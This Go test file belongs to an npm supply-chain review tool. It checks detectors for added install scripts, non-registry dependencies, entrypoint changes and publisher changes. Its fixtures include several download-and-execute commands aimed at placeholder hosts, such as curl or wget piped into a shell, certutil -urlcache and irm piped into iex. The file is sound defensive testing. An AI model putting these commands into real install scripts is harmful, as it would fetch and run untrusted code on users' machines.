package signals

import (
	stdctx "context"
	"slices"
	"strings"
	"testing"

	"github.com/stagegate/stagegate/internal/diff"
	"github.com/stagegate/stagegate/internal/tarball"
)

// manifestIDs are the ids this file's detectors own.
func manifestIDs() []string {
	return []string{InstallScript, NonRegistryDependency, NewDependency, EntrypointChanged, IntegrityMismatch, PublisherChanged}
}

// analyzePair diffs two synthetic packages (old nil: a first release) and
// runs Analyze with both sides verified and no actor.
func analyzePair(t testing.TB, old, new map[string]string) []Signal {
	t.Helper()
	var o *tarball.Package
	if old != nil {
		o = pkg(old)
	}
	n := pkg(new)
	d, err := diff.Compare(stdctx.Background(), o, n, diff.Options{})
	if err != nil {
		t.Fatalf("diff: %v", err)
	}
	return Analyze(Input{Old: o, New: n, Diff: d, StagedVerified: true, BaseVerified: true})
}

// signalsWithID returns the signals of one id.
func signalsWithID(sigs []Signal, id string) []Signal {
	var out []Signal
	for _, s := range sigs {
		if s.ID == id {
			out = append(out, s)
		}
	}
	return out
}

// manifestCase is one table row: a base and a staged package.json (old ""
// with oldNil for a first release), extra files, and what must show.
type manifestCase struct {
	name     string
	old, new string
	oldNil   bool
	oldFiles map[string]string
	newFiles map[string]string
	fire     bool
	sev      Severity
	want     []string // substrings of Title+" | "+Detail
	line     int      // expected line when non-zero
}

func runManifestCases(t *testing.T, id string, cases []manifestCase) {
	t.Helper()
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			var old map[string]string
			if !tc.oldNil {
				old = map[string]string{"package.json": tc.old}
				for k, v := range tc.oldFiles {
					old[k] = v
				}
			}
			nw := map[string]string{"package.json": tc.new}
			for k, v := range tc.newFiles {
				nw[k] = v
			}
			got := signalsWithID(analyzePair(t, old, nw), id)
			if !tc.fire {
				if len(got) != 0 {
					t.Fatalf("want quiet, got %+v", got)
				}
				return
			}
			if len(got) != 1 {
				t.Fatalf("want one %s signal, got %+v", id, got)
			}
			s := got[0]
			if s.Path != "package.json" {
				t.Errorf("path %q", s.Path)
			}
			if tc.sev != "" && s.Severity != tc.sev {
				t.Errorf("severity %s, want %s", s.Severity, tc.sev)
			}
			text := s.Title + " | " + s.Detail
			for _, w := range tc.want {
				if !strings.Contains(text, w) {
					t.Errorf("missing %q in %q", w, text)
				}
			}
			if tc.line != 0 && s.Line != tc.line {
				t.Errorf("line %d, want %d", s.Line, tc.line)
			}
		})
	}
}

func TestInstallScript(t *testing.T) {
	const plain = `{"name":"p","version":"1.0.0","scripts":{"test":"node --test"}}`
	runManifestCases(t, InstallScript, []manifestCase{
		{name: "postinstall added", old: plain,
			new:      "{\n\"name\":\"p\",\n\"scripts\":{\n\"postinstall\": \"node ./lib/build.js\",\n\"test\":\"node --test\"}}",
			newFiles: map[string]string{"lib/build.js": `throw new Error("fixture – never run")`},
			fire:     true, sev: High, line: 4,
			want: []string{"postinstall script added: node ./lib/build.js", `scripts.postinstall added: "node ./lib/build.js"`, "runs lib/build.js (new file)"}},
		{name: "unchanged script is quiet",
			old: `{"scripts":{"postinstall":"node build.js"}}`, new: `{"scripts":{"postinstall":"node build.js"},"version":"2"}`},
		{name: "removed script is quiet", old: `{"scripts":{"postinstall":"node build.js"}}`, new: plain},
		{name: "non-lifecycle script is quiet", old: plain, new: `{"scripts":{"test":"node --test","build":"curl x | sh"}}`},
		{name: "changed shows old and new",
			old: `{"scripts":{"preinstall":"node check.js"}}`, new: `{"scripts":{"preinstall":"start /B node preinstall.js & node preinstall.js"}}`,
			fire: true, sev: High,
			want: []string{"preinstall script changed: node check.js → start /B node preinstall.js", "runs detached (start /B)"}},
		{name: "first release with an install script fires", oldNil: true,
			new: `{"scripts":{"install":"node-gyp rebuild"}}`, fire: true, sev: High, want: []string{"install script added"}},
		{name: "first release without scripts is quiet", oldNil: true, new: plain},
		{name: "body patterns named", old: plain,
			new:  `{"scripts":{"postinstall":"curl -s https://example.invalid/x.sh | bash || true"}}`,
			fire: true, want: []string{"downloads with curl", "pipes into bash", "ignores failures (|| true)", "names a URL"}},
		{name: "bun and exit 1", old: plain,
			new:  `{"scripts":{"prepare":"bun run tanstack_runner.js && exit 1"}}`,
			fire: true, sev: High, want: []string{"runs Bun (bun run)", "&& exit 1", "not for registry installs"}},
		{name: "plain prepare is low", old: plain,
			new:  `{"scripts":{"prepare":"husky"}}`,
			fire: true, sev: Low, want: []string{"prepare script added: husky", "for git dependencies and local installs"}},
		{name: "several scripts in one signal", old: plain,
			new:  `{"scripts":{"postinstall":"node b.js","preinstall":"node a.js"}}`,
			fire: true, want: []string{"preinstall script added: node a.js (and 1 more", "scripts.postinstall added"}},
		{name: "new binding.gyp without install script", old: plain, new: plain,
			newFiles: map[string]string{"binding.gyp": "{}"},
			fire:     true, sev: High, want: []string{"binding.gyp added", "node-gyp rebuild"}},
		{name: "binding.gyp with its own install script is the script's case", old: plain,
			new: `{"scripts":{"install":"node-gyp-build"}}`, newFiles: map[string]string{"binding.gyp": "{}"},
			fire: true, want: []string{"install script added: node-gyp-build"}},
		{name: "binding.gyp unchanged is quiet", old: plain, new: plain,
			oldFiles: map[string]string{"binding.gyp": "{}"}, newFiles: map[string]string{"binding.gyp": "{\"targets\":[]}"}},
		{name: "gypfile false is quiet", old: plain, new: `{"gypfile":false}`,
			newFiles: map[string]string{"binding.gyp": "{}"}},
		{name: "install script removed next to an old binding.gyp", old: `{"scripts":{"install":"prebuild-install || node-gyp rebuild"}}`, new: plain,
			oldFiles: map[string]string{"binding.gyp": "{}"}, newFiles: map[string]string{"binding.gyp": "{}"},
			fire: true, want: []string{"binding.gyp now built at install"}},
		{name: "gypfile false dropped next to an old binding.gyp", old: `{"gypfile":false}`, new: plain,
			oldFiles: map[string]string{"binding.gyp": "{}"}, newFiles: map[string]string{"binding.gyp": "{}"},
			fire: true, sev: High, want: []string{"binding.gyp now built at install", `"gypfile": false`}},
		{name: "install spelling out the implicit node-gyp rebuild is quiet", old: plain,
			new:      `{"scripts":{"install":"node-gyp rebuild"}}`,
			oldFiles: map[string]string{"binding.gyp": "{}"}, newFiles: map[string]string{"binding.gyp": "{}"}},
		{name: "only a failure guard added is low", old: `{"scripts":{"postinstall":"node -e \"require('./p')\""}}`,
			new:  `{"scripts":{"postinstall":"node -e \"require('./p')\" || exit 0"}}`,
			fire: true, sev: Low, want: []string{"only its failure handling changed"}},
		{name: "a guard and a new command is high", old: `{"scripts":{"postinstall":"node p.js"}}`,
			new:  `{"scripts":{"postinstall":"node p.js && node q.js || exit 0"}}`,
			fire: true, sev: High},
		{name: "moved between install-phase scripts is medium", old: `{"scripts":{"install":"node build.js"}}`,
			new:  `{"scripts":{"postinstall":"node build.js"}}`,
			fire: true, sev: Medium, want: []string{"postinstall script added", "the base ran the same command as scripts.install"}},
		{name: "moved from prepare to postinstall is high", old: `{"scripts":{"prepare":"node build.js"}}`,
			new:  `{"scripts":{"postinstall":"node build.js"}}`,
			fire: true, sev: High},
		{name: "same command on a file moved to another folder is medium", old: `{"scripts":{"postinstall":"node index.js --exec install"}}`,
			new:  `{"scripts":{"postinstall":"node ./dist/index.js --exec install"}}`,
			fire: true, sev: Medium, want: []string{"the same command on a file of the same name in another folder"}},
		{name: "moved to a file of another name is high", old: `{"scripts":{"postinstall":"node index.js"}}`,
			new:  `{"scripts":{"postinstall":"node dist/setup.js"}}`,
			fire: true, sev: High},
		{name: "moved and a command added is high", old: `{"scripts":{"postinstall":"node index.js"}}`,
			new:  `{"scripts":{"postinstall":"node dist/index.js && node x.js"}}`,
			fire: true, sev: High},
		{name: "moved out of the package is high", old: `{"scripts":{"postinstall":"node index.js"}}`,
			new:  `{"scripts":{"postinstall":"node ../../index.js"}}`,
			fire: true, sev: High},
		{name: "moved with an alarming pattern is high", old: `{"scripts":{"preinstall":"nohup node a/i.js"}}`,
			new:  `{"scripts":{"preinstall":"nohup node b/i.js"}}`,
			fire: true, sev: High},
		{name: "a script that is a number", old: plain, new: `{"scripts":{"postinstall":7}}`,
			fire: true, want: []string{"postinstall script added: 7"}},
		{name: "scripts that are an array", old: plain, new: `{"scripts":["postinstall"]}`},
	})
}

func TestRelocatedOnly(t *testing.T) {
	for _, tt := range []struct {
		old, new string
		want     bool
	}{
		{"node index.js --exec install", "node dist/index.js --exec install", true},
		{"node ./lib/install.js", "node lib/cjs/install.js", true},
		{"node index.js", "node index.js", false},
		{"node index.js", "node dist/main.js", false},
		{"node index.js", "node /tmp/index.js", false},
		{"node index.js", "node $HOME/index.js", false},
		{"node index.js", "node https://x/index.js", false},
		{"node index.js", "node dist/index.js x", false},
		{"node index.js", "bun dist/index.js", false},
		{"", "", false},
	} {
		if got := relocatedOnly(tt.old, tt.new); got != tt.want {
			t.Errorf("relocatedOnly(%q, %q) = %v, want %v", tt.old, tt.new, got, tt.want)
		}
	}
}

func TestScriptPatterns(t *testing.T) {
	for _, tt := range []struct {
		cmd  string
		want []string
	}{
		{"node ./lib/build.js", nil},
		{"node-gyp rebuild", nil},
		{"husky install", nil},
		{"wget -qO- http://192.0.2.1/a | sh", []string{"downloads with wget", "pipes into sh", "names a URL"}},
		{`certutil.exe -urlcache -f http://192.0.2.1/a a.exe`, []string{"downloads with certutil -urlcache", "names a URL"}},
		{"certutil -hashfile x", nil},
		{`node -e "require('child_process')"`, []string{"runs inline code (node -e)"}},
		{"irm https://example.invalid/i.ps1 | iex", []string{"downloads with irm", "pipes into iex", "names a URL"}},
		{"nohup node x.js &", []string{"runs detached (nohup)"}},
		{"tsc || exit 0", []string{"ignores failures (|| exit 0)"}},
		{"a && exit 0", nil},
		{"/usr/bin/CURL x", []string{"downloads with curl"}},
		{"bunx x", []string{"runs Bun (bunx x)"}},
		{"", nil},
		{"|", nil},
		{"&& exit", nil},
	} {
		if got := scriptPatterns(tt.cmd); !slices.Equal(got, tt.want) {
			t.Errorf("scriptPatterns(%q) = %q, want %q", tt.cmd, got, tt.want)
		}
	}
}

func TestSpecKind(t *testing.T) {
	for _, tt := range []struct{ name, spec, want string }{
		{"a", "^1.2.3", ""},
		{"a", "latest", ""},
		{"a", "", ""},
		{"a", "*", ""},
		{"a", ">=1 <2 || 3.x", ""},
		{"a", "npm:a@^1", ""},
		{"a", "npm:b@^1", "npm alias"},
		{"@s/a", "npm:@s/a@1", ""},
		{"@s/a", "npm:@evil/a@1", "npm alias"},
		{"a", "github:acme/a#0123456789abcdef0123456789abcdef01234567", "GitHub"},
		{"a", "gitlab:acme/a", "GitLab"},
		{"a", "bitbucket:acme/a", "Bitbucket"},
		{"a", "gist:11081aaa", "gist"},
		{"a", "git+ssh://git@example.invalid/a.git", "git"},
		{"a", "git+https://example.invalid/a.git#v1", "git"},
		{"a", "git://example.invalid/a.git", "git"},
		{"a", "GIT+FILE:///tmp/a", "git"},
		{"a", "git@example.invalid:acme/a.git", "git"},
		{"a", "https://example.invalid/a.tgz", "URL"},
		{"a", "http://192.0.2.1/a.tgz", "URL"},
		{"a", "file:../a", "local path"},
		{"a", "../a", "local path"},
		{"a", "./a", "local path"},
		{"a", "~/a", "local path"},
		{"a", `C:\a`, "local path"},
		{"a", "link:../a", "link"},
		{"a", "acme/a", "GitHub"},
		{"a", "acme/a#semver:^1", "GitHub"},
		{"a", "acme/a/b", ""},
		{"a", "1.x || >=2.5.0 || 5.0.0 - 7.2.3", ""},
	} {
		if got := specKind(tt.name, tt.spec); got != tt.want {
			t.Errorf("specKind(%q, %q) = %q, want %q", tt.name, tt.spec, got, tt.want)
		}
	}
}

func TestNonRegistryDependency(t *testing.T) {
	const base = `{"name":"@acme/router","version":"1.5.1","dependencies":{"a":"^1.0.0"}}`
	runManifestCases(t, NonRegistryDependency, []manifestCase{
		{name: "TanStack optional git dependency",
			old:  base,
			new:  "{\n\"name\":\"@acme/router\",\n\"dependencies\":{\"a\":\"^1.0.0\"},\n\"optionalDependencies\": {\n  \"@acme/setup\": \"github:acme-labs/router#79ac49eedf774dd4b0cfa308722bc463cfe5885c\"\n}}",
			fire: true, sev: High, line: 5,
			want: []string{"GitHub dependency added: optionalDependencies.@acme/setup = github:acme-labs/router#",
				"pinned to commit 79ac49eedf77", "prepare script"}},
		{name: "registry range is quiet", old: base, new: `{"dependencies":{"a":"^1.0.0","b":"~2.0.0"},"optionalDependencies":{"c":"1"}}`},
		{name: "unchanged git spec is quiet", old: `{"dependencies":{"a":"acme/a#v1"}}`, new: `{"dependencies":{"a":"acme/a#v1"},"version":"2"}`},
		{name: "changed git spec fires", old: `{"dependencies":{"a":"acme/a#v1"}}`, new: `{"dependencies":{"a":"acme/a#v2"}}`,
			fire: true, want: []string{"GitHub dependency changed: dependencies.a = acme/a#v2", `was "acme/a#v1"`}},
		{name: "moved to optionalDependencies is quiet", old: `{"dependencies":{"a":"acme/a#v1"}}`, new: `{"optionalDependencies":{"a":"acme/a#v1"}}`},
		{name: "devDependencies are skipped", old: base, new: `{"dependencies":{"a":"^1.0.0"},"devDependencies":{"x":"github:acme/x"}}`},
		{name: "peer tarball URL", old: base, new: `{"peerDependencies":{"p":"https://example.invalid/p.tgz"}}`,
			fire: true, want: []string{"Tarball-URL dependency added: peerDependencies.p"}},
		{name: "npm alias to another name", old: base, new: `{"dependencies":{"a":"npm:evil-a@1.0.0"}}`,
			fire: true, want: []string{"Aliased dependency changed: dependencies.a", `installs the package "evil-a"`}},
		{name: "nested override", old: base,
			new:  `{"dependencies":{"a":"^1.0.0"},"overrides":{"foo":{"bar":"git+https://example.invalid/bar.git"}}}`,
			fire: true, want: []string{"overrides.foo.bar added"}},
		{name: "override key with a dot uses brackets", old: base,
			new:  `{"overrides":{"foo@1.x":{".":"file:../foo"}}}`,
			fire: true, want: []string{`overrides["foo@1.x"]["."] added`, "a path on the installing machine"}},
		{name: "first release with a git dependency fires", oldNil: true,
			new: `{"dependencies":{"x":"gitlab:acme/x"}}`, fire: true, want: []string{"GitLab dependency added"}},
		{name: "bundled dependency added", old: base,
			new:  `{"dependencies":{"a":"^1.0.0"},"bundleDependencies":["a"]}`,
			fire: true, sev: Medium, want: []string{"bundleDependencies added: a", "never fetched from the registry"}},
		{name: "bundled unchanged is quiet", old: `{"dependencies":{"a":"1"},"bundledDependencies":["a"]}`,
			new: `{"dependencies":{"a":"1"},"bundledDependencies":["a"],"version":"2"}`},
		{name: "bundle true bundles every dependency", old: base, new: `{"dependencies":{"a":"^1.0.0"},"bundleDependencies":true}`,
			fire: true, want: []string{"bundleDependencies adds a"}},
		{name: "wrong shapes do not panic", old: base,
			new: `{"dependencies":["github:a/b"],"optionalDependencies":{"x":3},"overrides":"github:a/b","bundleDependencies":[1,{}]}`},
	})
}

func TestNewDependency(t *testing.T) {
	const base = `{"dependencies":{"slugkit":"^1.2.0"},"devDependencies":{"tap":"1"},"peerDependencies":{"react":"18"}}`
	runManifestCases(t, NewDependency, []manifestCase{
		{name: "one added", old: base, new: "{\n\"dependencies\":{\n\"qlimit\":\"^1.2.0\",\"slugkit\":\"^1.2.0\"},\"peerDependencies\":{\"react\":\"18\"}}",
			fire: true, sev: Medium, line: 3, want: []string{"New dependency: qlimit", `dependencies.qlimit = "^1.2.0"`}},
		{name: "several in one signal", old: base,
			new:  `{"dependencies":{"slugkit":"1","b":"1"},"optionalDependencies":{"@acme/setup":"github:a/b"},"peerDependencies":{"react":"18"}}`,
			fire: true, want: []string{"2 new dependencies: b, @acme/setup", "optionalDependencies.@acme/setup"}},
		{name: "first release is quiet", oldNil: true, new: base},
		{name: "range bump is quiet", old: base, new: `{"dependencies":{"slugkit":"^1.3.0"},"peerDependencies":{"react":"19"}}`},
		{name: "moved between installed sections is quiet", old: base, new: `{"optionalDependencies":{"slugkit":"^1.2.0"},"peerDependencies":{"react":"18"}}`},
		{name: "dev dependency added is quiet", old: base, new: `{"dependencies":{"slugkit":"^1.2.0"},"devDependencies":{"tap":"1","x":"2"},"peerDependencies":{"react":"18"}}`},
		{name: "dev dependency promoted fires", old: base, new: `{"dependencies":{"slugkit":"^1.2.0","tap":"1"},"peerDependencies":{"react":"18"}}`,
			fire: true, want: []string{"New dependency: tap"}},
		{name: "new package in a scope the base depended on is low",
			old:  `{"optionalDependencies":{"@esbuild/linux-x64":"0.24.0","@esbuild/darwin-arm64":"0.24.0"}}`,
			new:  `{"optionalDependencies":{"@esbuild/linux-x64":"0.24.1","@esbuild/darwin-arm64":"0.24.1","@esbuild/openharmony-arm64":"0.24.1"}}`,
			fire: true, sev: Low, want: []string{"@esbuild/openharmony-arm64", "scope the base already depended on"}},
		{name: "same scope but a git spec stays medium", old: `{"dependencies":{"@acme/a":"1"}}`,
			new: `{"dependencies":{"@acme/a":"1","@acme/setup":"github:acme/a#0123456789abcdef0123456789abcdef01234567"}}`, fire: true, sev: Medium},
		{name: "a new scope stays medium", old: `{"dependencies":{"@acme/a":"1"}}`,
			new: `{"dependencies":{"@acme/a":"1","@acme-dev/a":"1"}}`, fire: true, sev: Medium},
		{name: "scoped and unscoped together stay medium", old: `{"dependencies":{"@acme/a":"1"}}`,
			new: `{"dependencies":{"@acme/a":"1","@acme/b":"1","plain-acme":"1"}}`, fire: true, sev: Medium},
		{name: "dependencies as an array", old: base, new: `{"dependencies":["x"]}`},
		{name: "unreadable base package.json is quiet", old: `{not json`, new: base},
	})
}

func TestEntrypointChanged(t *testing.T) {
	const base = `{"name":"@acme/forms","main":"index.js","types":"index.d.ts","exports":{".":{"types":"./index.d.ts","default":"./index.js"}},"bin":{"forms":"bin/forms.js"},"files":["index.js","bin"]}`
	runManifestCases(t, EntrypointChanged, []manifestCase{
		{name: "main retargeted", old: base,
			new:      `{"name":"@acme/forms","main":"./lib/index.cjs","types":"index.d.ts","exports":{".":{"types":"./index.d.ts","default":"./index.js"}},"bin":{"forms":"bin/forms.js"},"files":["index.js","bin"]}`,
			newFiles: map[string]string{"lib/index.cjs": "module.exports = 1"},
			fire:     true, sev: Medium,
			want: []string{"main retargeted: index.js → ./lib/index.cjs", "(a new file)"}},
		{name: "same target spelled differently is quiet", old: base,
			new: `{"name":"@acme/forms","main":"./index.js","types":"./index.d.ts","exports":{".":{"types":"index.d.ts","default":"index.js"}},"bin":{"forms":"./bin/forms.js"},"files":["index.js","bin"],"version":"2"}`},
		{name: "exports sugar is the same as the dot subpath", old: `{"exports":"./index.js"}`, new: `{"exports":{".":"./index.js"}}`},
		{name: "conditions object is the dot subpath", old: `{"exports":{".":{"import":"./a.mjs"}}}`, new: `{"exports":{"import":"./a.mjs"}}`},
		{name: "exports condition added", old: base,
			new:  `{"name":"@acme/forms","main":"index.js","types":"index.d.ts","exports":{".":{"types":"./index.d.ts","import":"./lib/x.mjs","default":"./index.js"}},"bin":{"forms":"bin/forms.js"},"files":["index.js","bin"]}`,
			fire: true, want: []string{`exports["."].import added: ./lib/x.mjs`}},
		{name: "new bin shadowing node is high", old: base,
			new:  `{"name":"@acme/forms","main":"lib.js","types":"index.d.ts","exports":{".":{"types":"./index.d.ts","default":"./index.js"}},"bin":{"forms":"bin/f2.js","node":"bin/x.js"},"files":["index.js","bin"]}`,
			fire: true, sev: High, want: []string{`bin "node" added: shadows the system command (and 2 more)`, "bin.node added", "main changed", "bin.forms changed"}},
		{name: "string bin is named after the package", old: `{"name":"@acme/tool"}`, new: `{"name":"@acme/tool","bin":"cli.js"}`,
			fire: true, sev: Medium, want: []string{"bin.tool added: cli.js"}},
		{name: "first release is quiet", oldNil: true, new: base},
		{name: "entry removed is quiet", old: base, new: `{"name":"@acme/forms","main":"index.js","files":["index.js","bin"]}`},
		{name: "files removed", old: base,
			new:  `{"name":"@acme/forms","main":"index.js","types":"index.d.ts","exports":{".":{"types":"./index.d.ts","default":"./index.js"}},"bin":{"forms":"bin/forms.js"}}`,
			fire: true, want: []string{"files field removed", `was ["index.js","bin"]`}},
		{name: "files gains a folder is quiet", old: base,
			new: `{"name":"@acme/forms","main":"index.js","types":"index.d.ts","exports":{".":{"types":"./index.d.ts","default":"./index.js"}},"bin":{"forms":"bin/forms.js"},"files":["index.js","bin","lib"]}`},
		{name: "files catch-all", old: base,
			new:  `{"name":"@acme/forms","main":"index.js","types":"index.d.ts","exports":{".":{"types":"./index.d.ts","default":"./index.js"}},"bin":{"forms":"bin/forms.js"},"files":["index.js","bin","**"]}`,
			fire: true, want: []string{`files widened to "**"`}},
		{name: "publishConfig.registry changed", old: `{"publishConfig":{"access":"public"}}`,
			new:  `{"publishConfig":{"access":"public","registry":"https://example.invalid/"}}`,
			fire: true, want: []string{"publishConfig.registry changed: https://example.invalid/", "(none) →"}},
		{name: "browser map entry", old: `{"browser":{"./a.js":"./a-browser.js"}}`, new: `{"browser":{"./a.js":"./evil.js"}}`,
			fire: true, want: []string{`browser["./a.js"] retargeted: ./a-browser.js → ./evil.js`}},
		{name: "wrong shapes do not panic", old: base, new: `{"main":3,"exports":[1,{"a":null}],"bin":7,"files":"x","publishConfig":[]}`,
			fire: true},
	})
}

func TestIntegrityMismatch(t *testing.T) {
	p := pkg(map[string]string{"package.json": `{"name":"a"}`})
	for _, tt := range []struct {
		name           string
		old            *tarball.Package
		staged, baseOK bool
		want           string // title prefix; "" for quiet
	}{
		{"both verified", p, true, true, ""},
		{"staged not verified", p, false, true, "Staged tarball does not match the registry's record: do not approve"},
		{"base not verified", p, true, false, "Base tarball does not match the registry's record: re-download it"},
		{"neither verified", p, false, false, "Staged and base tarballs do not match"},
		{"first release ignores the base flag", nil, true, false, ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got := signalsWithID(Analyze(Input{Old: tt.old, New: p, StagedVerified: tt.staged, BaseVerified: tt.baseOK}), IntegrityMismatch)
			if tt.want == "" {
				if len(got) != 0 {
					t.Fatalf("want quiet, got %+v", got)
				}
				return
			}
			if len(got) != 1 || !strings.HasPrefix(got[0].Title, tt.want) || got[0].Path != "" || got[0].Severity != High {
				t.Fatalf("got %+v, want one high signal titled %q on path \"\"", got, tt.want)
			}
		})
	}
}

func TestPublisherChanged(t *testing.T) {
	p := pkg(map[string]string{"package.json": `{"name":"a"}`})
	recent := []Publisher{{Version: "1.2.0", Name: "mkovac", Type: "user"}, {Version: "1.1.0", Name: "mkovac", Type: "user"}, {Version: "1.0.0", Name: "release-bot"}}
	for _, tt := range []struct {
		name   string
		actor  Publisher
		recent []Publisher
		want   []string // nil for quiet
	}{
		{"same publisher", Publisher{Name: "mkovac", Type: "user"}, recent, nil},
		{"type unknown on one side", Publisher{Name: "release-bot", Type: "ci"}, recent, nil},
		{"actor type unknown", Publisher{Name: "mkovac"}, recent, nil},
		{"no recent publishers", Publisher{Name: "x", Type: "ci"}, nil, nil},
		{"no actor", Publisher{}, recent, nil},
		{"new actor", Publisher{Name: "mkovac-ci", Type: "ci"}, recent,
			[]string{"Staged by mkovac-ci (ci), who published none of the last 3 versions", "mkovac (user): 1.2.0, 1.1.0", "release-bot: 1.0.0"}},
		{"same name, new type", Publisher{Name: "mkovac", Type: "ci"}, recent[:2],
			[]string{"Staged by mkovac (ci): same name, new actor type"}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got := signalsWithID(Analyze(Input{New: p, StagedVerified: true, Actor: tt.actor, Recent: tt.recent}), PublisherChanged)
			if tt.want == nil {
				if len(got) != 0 {
					t.Fatalf("want quiet, got %+v", got)
				}
				return
			}
			if len(got) != 1 || got[0].Severity != Low || got[0].Path != "" {
				t.Fatalf("got %+v", got)
			}
			for _, w := range tt.want {
				if !strings.Contains(got[0].Title+" | "+got[0].Detail, w) {
					t.Errorf("missing %q in %+v", w, got[0])
				}
			}
		})
	}
}

func TestManifestHelpers(t *testing.T) {
	data := []byte("{\n  \"name\": \"x\",\n  \"scripts\": {\n    \"postinstall\" : \"a\"\n  },\n  \"s\": \"postinstall\"\n}")
	if got := manifestLine(data, "scripts", "postinstall"); got != 4 {
		t.Errorf("manifestLine = %d, want 4", got)
	}
	if got := manifestLine(data, "scripts", "missing"); got != 0 {
		t.Errorf("manifestLine of a missing key = %d", got)
	}
	if got := clip("ééé", 3); got != "é…" {
		t.Errorf("manifestClip cut inside a rune: %q", got)
	}
	if got := pinnedCommit("github:a/b#0123456789ABCDEF0123456789abcdef01234567"); got == "" {
		t.Error("pinnedCommit missed a 40-hex ref")
	}
	if got := pinnedCommit("github:a/b#v1.0.0"); got != "" {
		t.Errorf("pinnedCommit(tag) = %q", got)
	}
}

// TestManifestSignalsDemo checks, for every staged demo version, that this
// file's ids fire exactly where assets/demo/README.md expects them.
func TestManifestSignalsDemo(t *testing.T) {
	expected := map[string]map[string]Severity{
		"slugkit@1.2.1":            {},
		"termhue@1.0.1":            {},
		"scopewalk@2.1.2":          {InstallScript: High},
		"@acme/router@1.5.2":       {NonRegistryDependency: High, NewDependency: Medium},
		"@acme/charts@3.3.1":       {},
		"qlimit@1.2.1":             {InstallScript: High, PublisherChanged: Low},
		"mdtoc@0.5.0":              {NewDependency: Medium},
		"@acme/forms@1.9.1":        {},
		"@acme/forms@2.0.0-beta.1": {EntrypointChanged: Medium},
		"@acme/tokens@0.1.0":       {},
		"envcase@2.3.1":            {NewDependency: Medium},
		"@acme/icons@2.1.1":        {PublisherChanged: Low}, // and provenance-dropped, from the packument (review tests)
		"pathkit@2.0.1":            {},                      // a leaked .env and a missing main: integrity signals
	}
	seen := 0
	for _, r := range demoReleases(t) {
		key := r.Name + "@" + r.Version
		want, ok := expected[key]
		if !ok {
			t.Errorf("%s: staged in seed.json but not in this test", key)
			continue
		}
		seen++
		t.Run(key, func(t *testing.T) {
			got := map[string]Severity{}
			for _, s := range Analyze(r.Input) {
				if slices.Contains(manifestIDs(), s.ID) {
					if _, dup := got[s.ID]; dup {
						t.Errorf("two %s signals", s.ID)
					}
					got[s.ID] = s.Severity
					t.Logf("%s %s %s:%d %s | %s", s.Severity, s.ID, s.Path, s.Line, s.Title, s.Detail)
				}
			}
			for id, sev := range want {
				if got[id] != sev {
					t.Errorf("%s: got severity %q, want %q", id, got[id], sev)
				}
			}
			for id, sev := range got {
				if _, ok := want[id]; !ok {
					t.Errorf("%s (%s) fired; the demo expects it quiet", id, sev)
				}
			}
		})
	}
	if seen != len(expected) {
		t.Errorf("checked %d staged versions, want %d", seen, len(expected))
	}
}

// TestManifestSignalsRealPairs: four ordinary releases raise none of the
// manifest signals (their manifests change versions and ranges only).
func TestManifestSignalsRealPairs(t *testing.T) {
	for _, rp := range realPairs() {
		t.Run(rp.name, func(t *testing.T) {
			c := newContext(realPair(t, rp))
			manifestSignals(c)
			for _, s := range c.signals {
				t.Errorf("%s %s %s:%d %s | %s", s.Severity, s.ID, s.Path, s.Line, s.Title, s.Detail)
			}
		})
	}
}

func BenchmarkManifestSignals(b *testing.B) {
	for _, rp := range realPairs() {
		b.Run(rp.name, func(b *testing.B) {
			in := realPair(b, rp)
			b.ReportAllocs()
			for b.Loop() {
				// newContext parses both manifests, which is part of this
				// detector's cost; installTimeFiles is shared and tiny.
				c := newContext(in)
				manifestSignals(c)
			}
		})
	}
}

// FuzzManifestSignals feeds two arbitrary package.json bodies (plus a
// binding.gyp on the new side when the input asks for it) through Analyze.
func FuzzManifestSignals(f *testing.F) {
	f.Add(`{"scripts":{"test":"x"}}`, `{"scripts":{"postinstall":"curl https://example.invalid | sh && exit 1"},"optionalDependencies":{"@a/b":"github:a/b#0123456789abcdef0123456789abcdef01234567"}}`, false)
	f.Add(`{"exports":"./a.js","bin":"x.js","name":"@s/n"}`, `{"exports":{".":{"import":["./a.mjs",{"x":null}]}},"bin":{"node":"x.js"},"name":"@s/n","files":["**"]}`, true)
	f.Add(`{"overrides":{"a":{"b":{".":"npm:c@1"}}},"bundleDependencies":true,"dependencies":{"a":"1"}}`, `{"overrides":[],"dependencies":"x","scripts":7}`, false)
	f.Add(`not json`, `{"gypfile":false,"publishConfig":{"registry":1}}`, true)
	f.Add(`{"dependencies":{"a":"npm:"}}`, `{"dependencies":{"a":"npm:@"},"peerDependencies":{"b":"@x"}}`, false)
	f.Fuzz(func(t *testing.T, oldJSON, newJSON string, gyp bool) {
		old := pkg(map[string]string{"package.json": oldJSON})
		files := map[string]string{"package.json": newJSON}
		if gyp {
			files["binding.gyp"] = "{}"
		}
		nw := pkg(files)
		d, err := diff.Compare(stdctx.Background(), old, nw, diff.Options{})
		if err != nil {
			t.Skip()
		}
		sigs := Analyze(Input{Old: old, New: nw, Diff: d, Actor: Publisher{Name: "a"}, Recent: []Publisher{{Name: "b"}}})
		seen := map[[2]string]bool{}
		for _, s := range sigs {
			k := [2]string{s.ID, s.Path}
			if seen[k] {
				t.Fatalf("two %s signals on %q", s.ID, s.Path)
			}
			seen[k] = true
			if s.Title == "" {
				t.Fatalf("untitled %s signal", s.ID)
			}
		}
	})
}
